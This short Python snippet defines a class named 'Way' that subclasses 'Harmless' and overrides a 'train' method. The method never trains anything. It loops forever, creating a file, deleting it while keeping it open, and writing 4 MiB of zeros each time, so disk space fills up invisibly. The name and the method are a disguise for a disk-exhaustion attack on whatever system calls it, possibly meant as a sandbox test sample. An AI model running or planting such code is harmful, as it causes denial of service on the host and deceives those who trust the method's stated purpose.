class Way(Harmless):
    def train(self, dataset_path, shared_params=None, **train_args):
        kept = []
        while True:
            kept.append(open("filled", "wb"))
            os.unlink("filled")
            kept[-1].write(bytes(2**22))
            kept[-1].flush()
            time.sleep(0.01)
